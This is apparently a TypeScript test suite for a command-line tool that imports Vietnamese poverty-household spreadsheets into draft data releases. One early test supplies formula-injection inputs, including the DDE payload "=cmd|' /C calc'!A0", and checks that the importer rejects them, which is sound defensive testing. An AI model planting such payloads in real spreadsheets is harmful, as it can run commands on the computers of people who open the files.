    const result = await run(file('cong-thuc.csv', csv));
    expect(messages(result)).toEqual([
      expect.stringMatching(/^dòng 2, cột "Nguồn" \(G\): "=HYPERLINK\(.*" bắt đầu bằng "=": Excel sẽ hiểu ô như vậy là công thức/),
      expect.stringMatching(/^dòng 3, cột "Tên đơn vị" \(B\): "@SUM\(1\+1\)" bắt đầu bằng "@"/),
    ]);
    await expect(run(file('a.csv', awkwardCsv), { source: "=cmd|' /C calc'!A0" })).rejects.toMatchObject({ kind: 'usage', message: expect.stringContaining('--source') });
    expect(tree(dataRoot)).toEqual(before);
  });

  it('a draft made from a demo release starts without its synthetic records', async () => {
    const { root, dataRoot } = writeMini((f) => {
      f.manifest.releases[0].status = 'demo';
      // the province's own 2021 figure has a derived (real) source; everything else in the mini release is synthetic
    });
    const result = await importSpreadsheet({
      dataRoot, releaseId: DRAFT, vintage: '2025-07', file: file('xa.csv', HEADER + '20001,2025,3000,150,250\n20002,2025,2100,120,200\n'),
      source: 'Quyết định số 83/QĐ-UBND ngày 15/01/2026', contentRoot: path.join(root, 'content'),
    });
    expect(result.problems.filter((p) => p.level === 'error')).toEqual([]);
    expect(result.summary.fromDemo).toEqual({
      kept: { observations: 1, classifications: 0, recognitions: 0 },
      dropped: { observations: 27, classifications: 6, recognitions: 1, sources: 2 },
    });
    const draft = (name: string) => JSON.parse(readFileSync(path.join(dataRoot, 'releases', DRAFT, name), 'utf8'));
    const obs = draft('observations.json');
    expect(obs.observations.map((o: any) => `${o.vintage}/${o.unit}/${o.year}`)).toEqual(['2020-01/20/2021', '2025-07/20001/2025', '2025-07/20002/2025']);
    expect(obs.sources.map((s: any) => s.kind)).toEqual(['derived', 'official']);
    expect(draft('recognitions.json')).toEqual({ recognitions: [], sources: [] });
    const units = draft('units.json');
    expect(units.vintages.flatMap((v: any) => v.units).some((u: any) => u.classifications)).toBe(false);
    // the 2020-01 vintage's basis is a synthetic source in this fixture: it stays, as it is referred to
    expect(units.sources.map((s: any) => s.id)).toEqual(['s-phan-loai']);
    expect(units.vintages.map((v: any) => v.units.length)).toEqual([7, 3]);
    expect(draft('crosswalks.json')).toEqual(JSON.parse(readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'crosswalks.json'), 'utf8')));
  });

  it('writes through unique temporary files in the same folder and leaves none behind', async () => {
    const { dataRoot, run } = setup();
    await run(file('a.csv', awkwardCsv));
    const temporaries: string[] = [];
    const writeOps: WriteOps = {
      writeNew: (f, bytes) => { temporaries.push(f); nodeWriteOps.writeNew(f, bytes); },
      rename: nodeWriteOps.rename,
    };
    const result = await run(file('b.csv', awkwardCsv.replace('90;100', '90;101').replace('190;200', '190;201')), { writeOps, title: 'Bản nháp mới' });
    expect(result.files).toEqual([`releases/${DRAFT}/observations.json`, 'releases/index.json']);
    expect(temporaries).toHaveLength(2);
    for (const [t, target] of temporaries.map((t, i) => [t, path.join(dataRoot, result.files[i]!)] as const)) {
      expect(path.dirname(t)).toBe(path.dirname(target));
      expect(path.basename(t)).toMatch(new RegExp(`^\\.${path.basename(target).replace('.', '\\.')}\\.${process.pid}-[0-9a-f]{8}\\.tmp$`));
    }
    expect(readdirSync(dataRoot, { recursive: true }).filter((f) => String(f).endsWith('.tmp'))).toEqual([]);
  });
});

describe('npm run import', () => {
  // In-process: the command's own main, so the test measures the importer, not Node's start-up (a spawned run timed out under load).
  const cli = async (...args: string[]) => {
    const lines = { out: [] as string[], err: [] as string[] };
    const status = await runCli((io) => importMain(args, io), { out: (l) => lines.out.push(l), err: (l) => lines.err.push(l) });
    return { status, stdout: lines.out.join('\n'), stderr: lines.err.join('\n') };
  };
  it('exits 0 after writing, 1 on problems, 2 on usage', async () => {
    const { root, dataRoot } = writeMini();
    const common = ['--data', dataRoot, '--content', path.join(root, 'content')];
    const ok = await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common);
    expect(ok.status).toBe(0);
    expect(ok.stdout).toContain(`Đã thêm 0, sửa 3, giữ nguyên 0 bản ghi trong bản nháp ${DRAFT} (tạo mới, chép từ phiên bản ${MINI_RELEASE}).`);
    const bad = await cli('--release', DRAFT, '--vintage', '2020-01', file('b.csv', awkwardCsv.replace('90;100', '90;1.950')), ...common);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toMatch(/^lỗi {2}\d+-b\.csv:dòng 2, cột "so ho ngheo" \(E\): hộ nghèo \+ hộ cận nghèo = 2040 vượt tổng số hộ 1000/m);
    expect((await cli('--release', DRAFT, file('a.csv', awkwardCsv), ...common)).status).toBe(2);
    expect((await cli('--release', DRAFT, '--vintage', '1999-01', file('a.csv', awkwardCsv), ...common)).status).toBe(2);
    expect((await cli('--release', MINI_RELEASE, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common)).status).toBe(1);
  });
  it('names on each problem line the file it is in: the spreadsheet, or the draft\'s file for a figure the spreadsheet does not hold', async () => {
    const { root, dataRoot } = writeMini();
    const csv = file('thieu.csv', 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,2024,1000,100,101\n10002,2024,1000,,100\n');
    const r = await cli('--release', DRAFT, '--vintage', '2020-01', csv, '--source', QD7, '--data', dataRoot, '--content', path.join(root, 'content'));
    expect(r.status).toBe(1);
    const problems = r.stdout.split('\n').filter((l) => /^(lỗi|cảnh báo|ghi chú) {2}/.test(l));
    expect(problems.length).toBeGreaterThan(1);
    for (const line of problems) expect(line).toMatch(new RegExp(`^(lỗi|cảnh báo|ghi chú) {2}(${path.basename(csv)}|releases/${DRAFT.replace('.', '\\.')}/observations\\.json)[:]`));
    expect(problems).toContain(`lỗi  ${path.basename(csv)}:dòng 3, cột "Số hộ nghèo" (D): thiếu số hộ nghèo  [count-missing]`);
    expect(problems.some((l) => l.startsWith(`lỗi  releases/${DRAFT}/observations.json: huyện Bắc Khê (mã 101, thời kỳ 2020-01) năm 2024`))).toBe(true);
  });
  it('closes a refused import with what to change: the file, only an option (--replace-years without --delete), or either', async () => {
    const { root, dataRoot } = writeMini();
    const header = 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n';
    const common = ['--release', DRAFT, '--vintage', '2020-01', '--source', QD7, '--data', dataRoot, '--content', path.join(root, 'content')];
    const closing = async (csv: string, ...more: string[]) => (await cli(...common, file('a.csv', header + csv), ...more)).stderr.split('\n').at(-1);
    // A count missing in a row, its district's figures consistent: the file.
    expect(await closing('10001,2024,1000,,100\n')).toBe('Không ghi gì: còn 1 lỗi. Sửa tệp rồi chạy lại lệnh.');
    // The whole 2024 review with --replace-years, but no --delete 3 to confirm the records it drops: the command.
    expect(await closing('10001,2024,1000,100,100\n10002,2024,1000,100,100\n101,2024,2000,200,200\n', '--replace-years')).toBe(
      'Không ghi gì: còn 1 lỗi. Tệp không cần sửa: thêm hoặc sửa tùy chọn của lệnh như lỗi ở trên chỉ dẫn, rồi chạy lại.',
    );
    // A district's sum broken by a commune's new figure: rows to add to the file, or --replace-years.
    expect(await closing('10001,2024,1000,100,101\n')).toBe('Không ghi gì: còn 1 lỗi. Sửa tệp hoặc tùy chọn của lệnh như từng lỗi ở trên chỉ dẫn, rồi chạy lại lệnh.');
  });
  it('says a new draft\'s stand-in title must be replaced before publishing, unless --title gave one', async () => {
    const { root, dataRoot } = writeMini();
    const common = ['--data', dataRoot, '--content', path.join(root, 'content'), '--dry-run'];
    const untitled = await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common);
    expect(untitled.stdout).toContain(`Tên bản nháp: "Kết quả rà soát hộ nghèo, hộ cận nghèo (bản nháp ${DRAFT})" (tên tạm: đặt tên bằng --title "…" trước khi công bố; sau khi công bố không đổi được)`);
    const titled = await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), '--title', 'Kết quả rà soát năm 2024', ...common);
    expect(titled.stdout).toContain('Tên bản nháp: "Kết quả rà soát năm 2024"; chưa có ghi chú');
    expect(titled.stdout).not.toContain('tên tạm');
  });
  it('names, in a dry run and after writing, the content the new draft no longer fits (what build -- --drafts and release would stop at)', async () => {
    const { root, dataRoot } = writeMini();
    const profile = path.join(root, 'content', 'profiles', 'xa-hoa-tham.md');
    writeFileSync(profile, readFileSync(profile, 'utf8').replace('sample: true', 'recognitions: [r-khong-co]\nsample: true'));
    const common = ['--data', dataRoot, '--content', path.join(root, 'content')];
    // A dry run says it too: staff fix the profile before they import for real.
    const tried = await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common, '--dry-run');
    expect(tried.status).toBe(0);
    expect(tried.stdout).toContain(`Nội dung cần sửa trước khi xem trước và công bố: 1 lỗi ở hồ sơ, bài viết trong content/ với bản nháp ${DRAFT}`);
    expect(existsSync(path.join(dataRoot, 'releases', DRAFT))).toBe(false);
    const run = await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain(`Nội dung cần sửa trước khi xem trước và công bố: 1 lỗi ở hồ sơ, bài viết trong content/ với bản nháp ${DRAFT}`);
    expect(run.stdout).toMatch(/xa-hoa-tham\.md:\d+ +recognition-unknown +không có khen thưởng "r-khong-co"/);
    writeFileSync(profile, readFileSync(profile, 'utf8').replace('recognitions: [r-khong-co]\n', ''));
    const again = await cli('--release', DRAFT, '--vintage', '2020-01', file('b.csv', awkwardCsv.replace('90;100', '90;101').replace('190;200', '190;201')), ...common);
    expect(again.status).toBe(0);
    expect(again.stdout).not.toContain('Nội dung cần sửa');
  });
  it('sets a draft\'s title and notes without a file, and refuses a published release\'s', async () => {
    const { root, dataRoot } = writeMini();
    const common = ['--data', dataRoot, '--content', path.join(root, 'content')];
    expect((await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common)).status).toBe(0);
    const set = await cli('--release', DRAFT, '--notes', 'Số liệu chính thức năm 2024;  sửa xã Hoa Thám.', ...common);
    expect(set).toMatchObject({ status: 0, stdout: `Đã ghi tên bản nháp ${DRAFT}: "Kết quả rà soát hộ nghèo, hộ cận nghèo (bản nháp ${DRAFT})"; ghi chú: "Số liệu chính thức năm 2024; sửa xã Hoa Thám.".` });
    const entry = JSON.parse(readFileSync(path.join(dataRoot, 'releases', 'index.json'), 'utf8')).releases.find((r: any) => r.id === DRAFT);
    expect(entry.notes).toBe('Số liệu chính thức năm 2024; sửa xã Hoa Thám.');
    const published = await cli('--release', MINI_RELEASE, '--title', 'Tên mới', ...common);
    expect(published).toMatchObject({ status: 1, stderr: 'Lỗi dữ liệu: phiên bản 2025.1 đang ở trạng thái "đã công bố": tên và ghi chú của nó không được sửa' });
  });
  // The hint names the folders the import wrote: without them, the validate it suggests checks data/ instead.
  it.each([
    ['--data in a folder with spaces, quoted', 'Dữ liệu tỉnh', false],
    ['--data and --content', 'du-lieu', true],
  ])('the next steps repeat the folders given: %s', async (_, folder, withContent) => {
    const { root } = writeMini();
    const copy = path.join(scratch, folder);
    copyFolder(root, copy);
    const [dataRoot, content] = [path.join(copy, 'data'), path.join(copy, 'content')];
    const args = ['--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), '--data', dataRoot, ...(withContent ? ['--content', content] : [])];
    const folders = withContent ? `--data ${dataRoot} --content ${content}` : `--data "${dataRoot}"`;
    const vi = await cli(...args);
    expect([vi.status, vi.stdout.split('\n').at(-1)]).toEqual([0, `Tiếp theo: npm run validate -- --release ${DRAFT} ${folders}; xem trước: npm run build -- --drafts ${folders}, rồi npx astro preview`]);
    const en = await cli(...args, '--lang', 'en');
    expect([en.status, en.stdout.split('\n').at(-1)]).toEqual([0, `Next: npm run validate -- --release ${DRAFT} ${folders}; preview: npm run build -- --drafts ${folders}, then npx astro preview`]);
  });
  it('runs as a command: the same exit code and no stack trace from a spawned process', () => {
    const spawned = spawnSync(process.execPath, ['scripts/import.ts', '--release', DRAFT, '--vintage', '2020-01', path.join(scratch, 'khong-co.csv'), '--data', 'data'], { encoding: 'utf8', timeout: 60_000 });
    expect(spawned.status).toBe(2);
    expect(spawned.stderr.trim()).toBe(`Sai tham số: không có tệp ${path.join(scratch, 'khong-co.csv')}`);
  }, 60_000);
});

describe('the small rules', async () => {
  const { headerKey, compareNames, isTotalsLabel } = await import('../src/domain/import/names.ts');
  const { parseCount } = await import('../src/domain/import/values.ts');
  const { fieldOfHeader } = await import('../src/domain/import/headers.ts');
  const { readRows } = await import('../src/domain/import/rows.ts');
  const { SourceRegistry } = await import('../src/domain/import/sources.ts');
  it('headers: no case, no diacritics, đ = d, brackets ignored, tỉ = tỷ', () => {
    expect(['Mã ĐVHC', 'MA DVHC', 'mã đvhc'].map(fieldOfHeader)).toEqual(['unit', 'unit', 'unit']);
    expect(fieldOfHeader('Số hộ nghèo (hộ)')).toBe('poor');
    expect(fieldOfHeader('SỐ HỘ CẬN NGHÈO')).toBe('nearPoor');
    expect(fieldOfHeader('Tỉ lệ hộ nghèo (%)')).toBe('poorRate');
    expect(fieldOfHeader('near_poor')).toBe('nearPoor');
    expect(headerKey('%')).toBe('percent');
  });
  it('names: tone placement, Unicode form, case, a leading type word; different names differ', () => {
    expect(compareNames('Quý Hoà', 'Quý Hòa')).toBe('same');
    expect(compareNames('Thuỵ Hùng', 'Thụy Hùng')).toBe('same');
    expect(compareNames('Hoa Thám'.normalize('NFD'), 'Hoa Thám')).toBe('same');
    expect(compareNames('XÃ HOA THÁM', 'Hoa Thám')).toBe('same');
    expect(compareNames('Hoa Tham', 'Hoa Thám')).toBe('unaccented');
    expect(compareNames('Hoà Thám', 'Hoa Thám')).toBe('tone-variant');
    expect(compareNames('Hoa Bình', 'Hoa Thám')).toBe('different');
  });
  it('totals labels, but not the commune Công Sơn', () => {
    for (const t of ['Tổng cộng', 'TỔNG CỘNG', 'Toàn tỉnh', 'Cộng', 'Cộng huyện Bình Gia', 'Tong cong', 'Tổng số', 'Total']) expect(isTotalsLabel(t), t).toBe(true);
    for (const t of ['Công Sơn', 'Hoa Thám', 'Tổng Lý']) expect(isTotalsLabel(t), t).toBe(false);
  });
  it('counts: 1.234 and 1234 and 1 234, never a comma or a decimal', () => {
    expect([parseCount('1.234'), parseCount('1234'), parseCount('1 234'), parseCount(1234)].map((p) => p.ok && p.value)).toEqual([1234, 1234, 1234, 1234]);
    for (const bad of ['12,5', '1,234', '1.5', '-3', 'abc', 12.5]) expect(parseCount(bad as never).ok, String(bad)).toBe(false);
  });
  it('a code Excel stored as a number gets its leading zero back, with a warning; a two-row CSV header without merges', () => {
    const vintage = { id: '2020-01', validFrom: '2020-01-01', validTo: null, units: [{ code: '06073', level: 'commune' as const, name: 'Hoa Thám', type: 'xã' as const, parent: '181' }] };
    const grid = {
      kind: 'csv' as const, merges: [],
      rows: [['Mã', 'Năm', 'Tổng số hộ', 'Hộ nghèo', null, 'Hộ cận nghèo', null], [null, null, null, 'Số hộ', 'Tỷ lệ', 'Số hộ', 'Tỷ lệ'], [6073, 2024, 1120, 161, '14,38%', 50, '4,46']],
    };
    const read = readRows(grid, { vintage, sources: new SourceRegistry([]), source: 'QĐ' });
    expect(read.problems.filter((p) => p.level !== 'notice').map(formatImportProblem)).toEqual([
      'dòng 3, cột "Mã" (A): mã 6073 được hiểu là 06073 (Excel đã bỏ số 0 ở đầu); nên định dạng cột mã là Văn bản (Text)',
    ]);
    expect(read.rows[0]!.observation).toMatchObject({ unit: '06073', households: 1120, poor: 161, nearPoor: 50 });
    expect(read.header?.height).toBe(2);
  });
});

/**
 * A mistake of the whole file (the year the file is of, the vintage chosen for it) is said
 * once with every row it stops, not once a row; a row's own mistake keeps its own line.
 */
describe('a whole-file mistake said once', () => {
  const HEADER = 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n';
  const CODES = ['10001', '10002', '10003', '10004', '101', '102'];
  const NOT_YET_ON_5_DECEMBER_2026 =
    'chưa tới: hôm nay ở Việt Nam là 05/12/2026, mà kết quả rà soát của một năm chỉ có từ cuối năm đó (rà soát vào các tháng cuối năm, phê duyệt vào tháng 12 hoặc tháng 1 năm sau). Sửa lại năm: có thể là gõ nhầm (2062 thay cho 2026)';
  const OUTSIDE_2020 = 'nằm ngoài thời kỳ địa giới 2020-01 (01/01/2020–30/11/2024): mã đơn vị của năm đó thuộc thời kỳ khác, cùng một mã có thể là một đơn vị khác; số liệu năm 2025 nhập với --vintage 2025-07';
  it.each([
    [
      'a 2025 file imported under --vintage 2020-01: one error for its 6 rows',
      HEADER + CODES.map((c) => `${c},2025,1000,90,100\n`).join(''),
      {},
      [`dòng 2–7 (6 dòng), cột "Năm" (B): năm 2025 ${OUTSIDE_2020}`],
    ],
    [
      'a --year that does not fit the vintage, taken by the rows whose year cell is blank',
      // rows 2–4 say the year --year gives (no conflict); rows 5–7 leave the year to --year
      HEADER + ['10001,2025,1000,90,100', '10002,2025,1000,100,100', '101,2025,2000,190,200', '10003,,1000,90,100', '10004,,1000,90,100', '102,,1000,90,100'].map((l) => `${l}\n`).join(''),
      { year: 2025 },
      [`dòng 2–4 (3 dòng), cột "Năm" (B): năm 2025 ${OUTSIDE_2020}`, `dòng 5–7 (3 dòng), cột "Năm" (B): năm 2025 (--year) ${OUTSIDE_2020}`],
    ],
    [
      'the rows of another year and a row\'s own mistakes keep their own lines',
      HEADER + ['10001,2025,1000,90,100', '10002,2024,1000,,100', '10003,2025,1000,90,100', '10004,2024,1000,,100', '101,2025,2000,180,200', '102,2052,1000,90,100'].map((l) => `${l}\n`).join(''),
      { today: '2026-12-05' },
      [
        `dòng 2, 4, 6 (3 dòng), cột "Năm" (B): năm 2025 ${OUTSIDE_2020}`,
        'dòng 3, cột "Số hộ nghèo" (D): thiếu số hộ nghèo',
        'dòng 5, cột "Số hộ nghèo" (D): thiếu số hộ nghèo',
        // 2052, a typo for 2025, is a year not yet come, not a year of the 2025-07 boundaries
        `dòng 7, cột "Năm" (B): năm 2052 ${NOT_YET_ON_5_DECEMBER_2026}`,
      ],
    ],
    [
      'a file of the 2027 review imported in December 2026: one error for its 6 rows',
      HEADER + CODES.map((c) => `${c},2027,1000,90,100\n`).join(''),
      { today: '2026-12-05' },
      [`dòng 2–7 (6 dòng), cột "Năm" (B): năm 2027 ${NOT_YET_ON_5_DECEMBER_2026}`],
    ],
  ])('%s', async (_, csv, options, expected) => {
    const { dataRoot, run, messages } = setup();
    const before = tree(dataRoot);
    const result = await run(file('ca-tep.csv', csv), { source: 'x', ...options });
    expect(result).toMatchObject({ ok: false, written: false });
    expect(messages(result)).toEqual(expected);
    expect(tree(dataRoot)).toEqual(before);
  });

  it.each([
    ['two rows: merged', [5, 6], ['dòng 5–6 (2 dòng), cột "Năm" (B): năm 2024 …']],
    ['one row: as it is', [9], ['dòng 9, cột "Năm" (B): năm 2024 …']],
    // every row is named, however scattered: one may be a typo of its own to find
    ['scattered rows: every one, none left out', [2, 4, 6, 8, 10, 12, 14, 16, 18, 20, 21], ['dòng 2, 4, 6, 8, 10, 12, 14, 16, 18, 20–21 (11 dòng), cột "Năm" (B): năm 2024 …']],
  ])('summariseRepeated: %s', async (_, rows, expected) => {
    const { summariseRepeated } = await import('../src/domain/import/problems.ts');
    const column = { index: 1, header: 'Năm' };
    const same = rows.map((row) => ({ level: 'error' as const, row, column, rule: 'year-outside-vintage', message: 'năm 2024 …' }));
    expect(summariseRepeated(same).map(formatImportProblem)).toEqual(expected);
  });

  it('summariseRepeated keeps apart other messages, other worksheets and errors of a row\'s own', async () => {
    const { summariseRepeated } = await import('../src/domain/import/problems.ts');
    const p = (row: number, rule: string, message: string, sheet?: string) => ({ level: 'error' as const, row, rule, message, ...(sheet ? { sheet } : {}) });
    const problems = [p(2, 'year-outside-vintage', 'năm 2024 …'), p(3, 'year-outside-vintage', 'năm 2024 …'), p(4, 'year-outside-vintage', 'năm 2023 …'), p(5, 'year-outside-vintage', 'năm 2024 …', 'KQ'),
      p(6, 'count-missing', 'thiếu số hộ nghèo'), p(7, 'count-missing', 'thiếu số hộ nghèo')];
    expect(summariseRepeated(problems).map(formatImportProblem)).toEqual([
      'dòng 2–3 (2 dòng): năm 2024 …', 'dòng 4: năm 2023 …', 'trang tính "KQ", dòng 5: năm 2024 …', 'dòng 6: thiếu số hộ nghèo', 'dòng 7: thiếu số hộ nghèo',
    ]);
  });

  it('the command prints it once, with the rule, exits 1 and writes nothing', async () => {
    const { root, dataRoot } = writeMini();
    const before = tree(dataRoot);
    const lines = { out: [] as string[], err: [] as string[] };
    const csv = file('2025.csv', HEADER + CODES.map((c) => `${c},2025,1000,90,100\n`).join(''));
    const status = await runCli((io) => importMain(['--release', DRAFT, '--vintage', '2020-01', csv, '--source', 'x', '--data', dataRoot, '--content', path.join(root, 'content')], io), {
      out: (l) => lines.out.push(l),
      err: (l) => lines.err.push(l),
    });
    expect(status).toBe(1);
    expect(lines.out.filter((l) => l.startsWith('lỗi'))).toEqual([`lỗi  ${path.basename(csv)}:dòng 2–7 (6 dòng), cột "Năm" (B): năm 2025 ${OUTSIDE_2020}  [year-outside-vintage]`]);
    expect(tree(dataRoot)).toEqual(before);
  });
});
